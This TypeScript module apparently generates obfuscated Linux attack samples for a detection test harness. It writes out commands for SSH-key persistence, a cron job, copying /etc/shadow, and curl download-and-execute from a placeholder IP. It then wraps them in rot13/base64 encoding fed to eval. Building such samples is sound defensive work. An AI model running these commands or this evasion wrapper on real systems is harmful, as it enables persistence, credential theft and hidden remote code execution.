import { base64, rot13 } from './sample.ts';

/** What each Linux sample does. No address leads anywhere, and no key opens anything. */
export const linuxTechniques = ['T1098.004', 'T1053.003', 'T1003.008', 'T1105'];

export const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINotAKeyAtAllNotAKeyAtAllNotAKeyAtAll0 x@example';
export const url = 'http://198.51.100.7/u';
export const job = '*/9 * * * * /tmp/.u';

export const addKey = `mkdir -p ~/.ssh; echo '${key}' >> ~/.ssh/authorized_keys`;
export const addJob = `(crontab -l 2>/dev/null; echo '${job}') | crontab -`;
export const readHashes = 'sudo cat /etc/shadow > /tmp/.s';
export const fetchAndRun = `curl -s ${url} -o /tmp/.u; chmod +x /tmp/.u; /tmp/.u`;
export const payload = [addKey, addJob, readHashes, fetchAndRun].join('\n');

/**
 * Prints a text that no parser here reads: base64 with its letters turned. So only the run can tell what a sample does,
 * and it is the run that is measured.
 */
export const veiled = (text: string): string => `echo ${rot13(base64(text))} | tr A-Za-z N-ZA-Mn-za-m | base64 -d`;
/** Runs such a text in the shell that is there. */
export const run = (text: string = payload): string => `eval "$(${veiled(text)})"`;
/** A whole script: something first, then the payload. */
export const bash = (before: string, after = ''): string => `#!/bin/bash\n${before}\n${run()}\n${after}\n`;
